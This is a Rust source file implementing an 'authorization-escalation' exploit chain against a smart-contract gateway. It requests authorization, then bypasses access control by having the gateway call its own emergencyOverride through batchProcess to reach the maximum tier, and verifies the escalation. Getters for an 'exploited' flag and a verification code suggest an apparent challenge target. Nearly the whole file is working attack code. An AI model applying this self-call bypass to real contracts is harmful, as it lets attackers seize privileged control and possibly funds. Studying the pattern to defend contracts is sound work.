//! Authorization escalation against the gateway: request a level, then have
//! the gateway call `emergencyOverride` on itself through `batchProcess`.

use libexo_core::{
    blockchain::client::ChainClient,
    error::ExoError,
    types::{Address, B256, U256},
};
use libexo_periphery::gateway::{AuthInfo, GatewayProxy};
use libexo_utils::log::{debug, info};
use serde::Serialize;

use crate::{
    phase::{PhaseId, PhaseState},
    report::ChainReport,
    step::StepRunner,
};

pub const CHAIN_NAME: &str = "authorization-escalation";

#[derive(Debug, Clone, Copy, PartialEq, Eq, derive_more::Display)]
pub enum EscalationState {
    Start,
    Requested,
    Bypassed,
    Verified,
    Aborted,
}

fn advance(from: EscalationState, to: EscalationState) -> EscalationState {
    debug!(%from, %to, "escalation state");
    to
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct AuthSnapshot {
    is_authorized: bool,
    level: U256,
    cooldown_ends: U256,
    has_exploited: bool,
}

impl From<AuthInfo> for AuthSnapshot {
    fn from(info: AuthInfo) -> Self {
        Self {
            is_authorized: info.is_authorized,
            level: info.level,
            cooldown_ends: info.cooldown_ends,
            has_exploited: info.has_exploited,
        }
    }
}

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
struct Verification {
    level: U256,
    exploited: bool,
    verification_code: Option<B256>,
}

pub struct AuthEscalation<'r, 'a, C: ChainClient> {
    runner: &'r StepRunner<'a, C>,
    gateway: GatewayProxy,
    max_tier: U256,
}

impl<'r, 'a, C: ChainClient> AuthEscalation<'r, 'a, C> {
    pub fn new(runner: &'r StepRunner<'a, C>, gateway: Address, max_tier: U256) -> Self {
        Self {
            runner,
            gateway: GatewayProxy::new(gateway),
            max_tier,
        }
    }

    pub fn run(&self) -> ChainReport {
        let me = self.runner.builder().account().address();
        info!(gateway = %self.gateway.address(), operator = %me, "authorization escalation started");
        let mut report = ChainReport::new(CHAIN_NAME);
        let mut state = EscalationState::Start;

        let phase = PhaseState::run(PhaseId::RequestAuthorization, |p| self.request(p, me));
        if !report.push(phase) {
            return report.finish(EscalationState::Aborted, false);
        }
        state = advance(state, EscalationState::Requested);
        let phase = PhaseState::run(PhaseId::BypassAccessControl, |p| self.bypass(p, me));
        if !report.push(phase) {
            return report.finish(EscalationState::Aborted, false);
        }
        state = advance(state, EscalationState::Bypassed);

        let mut seen = None;
        let phase = PhaseState::run(PhaseId::VerifyEscalation, |p| self.verify(p, me, &mut seen));
        let verified = report.push(phase);
        if let Some(v) = seen {
            report.observed_level = Some(v.level);
            report.exploited = Some(v.exploited);
            report.verification_code = v.verification_code;
        }
        state = match verified {
            true => advance(state, EscalationState::Verified),
            false => EscalationState::Aborted,
        };
        info!(%state, "authorization escalation finished");
        report.finish(state, verified)
    }

    fn request(&self, phase: &mut PhaseState, me: Address) -> Result<(), ExoError> {
        let client = self.runner.client();
        let before = self.gateway.get_user_auth_info(client, me)?;
        phase.snapshot(&AuthSnapshot::from(before))?;
        if !before.level.is_zero() {
            info!(level = %before.level, "already authorized, skipping request");
            phase.observe(&AuthSnapshot::from(before))?;
            return phase.succeed();
        }

        let step = self
            .runner
            .execute("request-authorization", &self.gateway.request_authorization()?)?;
        phase.record(&step)?;
        if let Some(reason) = step.outcome.failure() {
            return phase.fail(reason);
        }
        let after = self.gateway.get_user_auth_info(client, me)?;
        phase.observe(&AuthSnapshot::from(after))?;
        if after.level.is_zero() {
            return phase.fail("authorization level still 0 after the request");
        }
        phase.succeed()
    }

    fn bypass(&self, phase: &mut PhaseState, me: Address) -> Result<(), ExoError> {
        let client = self.runner.client();
        let before = self.gateway.get_user_auth_info(client, me)?;
        phase.snapshot(&AuthSnapshot::from(before))?;
        if before.level >= self.max_tier {
            info!(level = %before.level, "already at the maximum tier, skipping bypass");
            return phase.succeed();
        }

        let payload = self.gateway.emergency_override_calldata(me, self.max_tier)?;
        let request = self
            .gateway
            .batch_process(vec![self.gateway.address()], vec![payload])?;
        let step = self.runner.execute("batch-emergency-override", &request)?;
        phase.record(&step)?;
        if let Some(reason) = step.outcome.failure() {
            return phase.fail(reason);
        }
        phase.succeed()
    }

    fn verify(
        &self,
        phase: &mut PhaseState,
        me: Address,
        seen: &mut Option<Verification>,
    ) -> Result<(), ExoError> {
        let client = self.runner.client();
        let info = self.gateway.get_user_auth_info(client, me)?;
        let exploited = self.gateway.has_exploited_vulnerability(client, me)?;
        let verification_code = match self.gateway.get_verification_code(client, me) {
            Ok(code) => Some(code),
            Err(e) => {
                debug!(error = %e, "verification code unavailable");
                None
            }
        };
        let v = Verification {
            level: info.level,
            exploited,
            verification_code,
        };
        phase.observe(&v)?;
        *seen = Some(v);
        if info.level < self.max_tier {
            return phase.fail(format!(
                "observed level {} below the maximum tier {}",
                info.level, self.max_tier
            ));
        }
        phase.succeed()
    }
}
